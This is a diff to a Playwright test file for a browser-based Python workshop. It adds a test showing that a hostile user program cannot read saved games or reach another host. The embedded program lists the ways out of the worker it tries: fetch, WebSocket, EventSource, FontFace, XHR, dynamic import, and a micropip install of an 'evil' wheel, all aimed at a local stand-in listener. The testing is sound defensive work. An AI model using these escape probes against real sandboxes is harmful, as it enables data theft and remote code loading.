@@ -1,9 +1,85 @@
-"""The Python workshop: micropip installs the published wheel, the examples run, a program without end is stopped."""
+"""The Python workshop: micropip installs the published wheel, the examples run, a program without end is stopped.
 
+Programs are passed around, so one may be hostile: it finds neither the saved games nor a way out.
+"""
+
+import http.server
+import threading
+from collections.abc import Iterator
+
+import pytest
 from conftest import Site
 from playwright.sync_api import Page, expect
 
 PATIENCE = 90_000  # milliseconds: all of Python and micropip start
+
+# Every way known out of a worker, or to what the site keeps; each says what came of it.
+HOSTILE = """
+import js
+from pyodide.code import run_js
+from pyodide.ffi import to_js
+
+async def tried(name, way):
+    try:
+        found = way()
+        if hasattr(found, "then"):
+            found = await found
+        print(name, "→", found)
+    except BaseException as error:
+        print(name, "✗", type(error).__name__)
+
+there = [name for name in
+    "window document localStorage sessionStorage caches indexedDB Worker SharedWorker BroadcastChannel".split()
+    if hasattr(js, name)]
+there += [name for name in "locks serviceWorker storage".split() if getattr(js.navigator, name, None) is not None]
+print("portes :", there)
+owner = js.self
+while owner:
+    described = js.Object.getOwnPropertyDescriptor(owner, "caches")
+    print("encore" if described else "rien")
+    owner = js.Object.getPrototypeOf(owner)
+elsewhere, blind = "{elsewhere}", to_js({{"mode": "no-cors"}}, dict_converter=js.Object.fromEntries)
+await tried("fetch", lambda: js.fetch(elsewhere + "fetch", blind))
+await tried("EventSource", lambda: js.EventSource.new(elsewhere + "events"))
+await tried("WebSocket", lambda: js.WebSocket.new(elsewhere.replace("http", "ws") + "socket"))
+await tried("FontFace", lambda: js.FontFace.new("f", "url(" + elsewhere + "font)").load())
+await tried("XMLHttpRequest", lambda: (x := js.XMLHttpRequest.new(), x.open("GET", elsewhere + "xhr", False), x.send()))
+await tried("eval", lambda: run_js("1 + 1"))
+await tried("import", lambda: run_js("import('" + elsewhere + "module.js')"))
+try:
+    import micropip
+    await micropip.install(elsewhere + "evil-1.0-py3-none-any.whl")
+    print("micropip → installé")
+except BaseException as error:
+    print("micropip ✗", type(error).__name__)
+print("fini")
+"""
+
+
+@pytest.fixture
+def listener() -> Iterator[tuple[str, list[str]]]:
+    """Somebody else's host: its address, and all that it was asked for."""
+    asked: list[str] = []
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        def log_message(self, format: str, *arguments: object) -> None:
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_address[1]}/", asked
+    server.shutdown()
+    server.server_close()
+
+
+def run(page: Page, program: str) -> None:
+    page.locator("[data-part=code]").fill(program)
+    page.locator("[data-part=run]").click()
 
 
 def test_the_examples_run_and_an_endless_program_is_stopped(page: Page, site: Site) -> None:
@@ -18,13 +94,23 @@ def test_the_examples_run_and_an_endless_program_is_stopped(page: Page, site: Si
             assert output.locator("img").evaluate("(image) => image.naturalWidth") > 0
         else:
             expect(output).to_contain_text(shown)
-    page.locator("[data-part=code]").fill("1/0")
-    page.locator("[data-part=run]").click()
+    run(page, "1/0")
     expect(output).to_contain_text("ZeroDivisionError")
-    page.locator("[data-part=code]").fill("while True: pass")
-    page.locator("[data-part=run]").click()
+    run(page, "while True: pass")
     page.locator("[data-part=stop]").click()
     expect(state).to_have_text("Arrêté.")
-    page.locator("[data-part=code]").fill("print(6 * 7)")
-    page.locator("[data-part=run]").click()
+    run(page, "print(6 * 7)")
     expect(output).to_contain_text("42", timeout=PATIENCE)
+
+
+@pytest.mark.allows("errors")
+def test_a_program_finds_no_saved_game_and_no_way_out(page: Page, site: Site, listener: tuple[str, list[str]]) -> None:
+    elsewhere, asked = listener
+    page.goto(site.url("atelier/"))
+    page.evaluate("localStorage.setItem('ludotheque:save:s1', 'secret')")
+    run(page, HOSTILE.format(elsewhere=elsewhere))
+    output = page.locator("[data-part=output]")
+    expect(output).to_contain_text("fini", timeout=PATIENCE)
+    told = output.inner_text()
+    assert "portes : []" in told and "encore" not in told and "secret" not in told, told
+    assert asked == [], told
